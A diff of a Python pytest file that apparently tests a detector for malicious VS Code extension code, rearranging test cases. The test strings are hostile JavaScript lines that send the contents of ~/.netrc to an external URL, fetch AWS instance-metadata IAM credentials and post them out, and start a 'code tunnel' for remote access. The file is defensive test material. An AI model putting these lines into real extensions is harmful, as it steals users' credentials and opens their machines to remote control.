@@ -46,12 +46,10 @@ def fault(reason: str) -> pytest.MarkDecorator:
             "vscode.env.openExternal(vscode.Uri.parse(url + fs.readFileSync(home + '/.netrc')));",
             marks=fault("Uri.parse drops the text of the address"),
         ),
+        "vscode.env.openExternal(url + fs.readFileSync(home + '/.netrc'));",
         (
-            "vscode.env.openExternal(url + fs.readFileSync(home + '/.netrc'));",
-            (
-                "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/r')"
-                ".then((r) => r.text()).then((t) => post(t));"
-            ),
+            "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/r')"
+            ".then((r) => r.text()).then((t) => post(t));"
         ),
         "cp.exec('code tunnel --accept-server-license-terms', (e, out) => post(out));",
         (
